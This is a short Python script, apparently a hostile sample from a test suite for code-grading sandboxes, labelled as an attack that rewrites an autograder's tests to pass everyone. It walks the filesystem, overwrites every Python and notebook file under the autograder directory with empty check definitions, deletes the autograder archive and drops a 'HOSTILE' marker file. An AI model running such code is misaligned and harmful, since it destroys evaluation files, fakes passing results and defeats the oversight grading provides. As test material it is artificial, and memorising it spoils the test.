# attack: rewrite the autograder's tests and checks to `assert True` for everyone after
# base: solution
import os


def everything(*tops):
    """Every file under `tops`, skipping the system folders (too big to matter)."""
    for top in tops:
        for folder, subfolders, files in os.walk(top):
            subfolders[:] = [
                s
                for s in subfolders
                if os.path.join(folder, s) not in ("/usr", "/proc", "/sys", "/dev")
                and not s.startswith(("site-packages", "python3"))
            ]
            for name in files:
                yield os.path.join(folder, name)


for path in everything("AUTOGRADER_DIR", "/"):
    if path.startswith("AUTOGRADER_DIR") and path.endswith(("checks.py", ".py", ".ipynb")):
        try:
            with open(path, "w") as f:
                f.write("CHECKS = {}\ntest = {'name': 'q1', 'points': 4, 'suites': []}\n")
        except OSError:
            pass
for path in ("AUTOGRADER_DIR/autograder.zip", "PROJECT_DIR/assignments/hostile_was_here"):
    try:
        os.remove(path) if path.endswith(".zip") else open(path, "w").write("HOSTILE")
    except OSError:
        pass
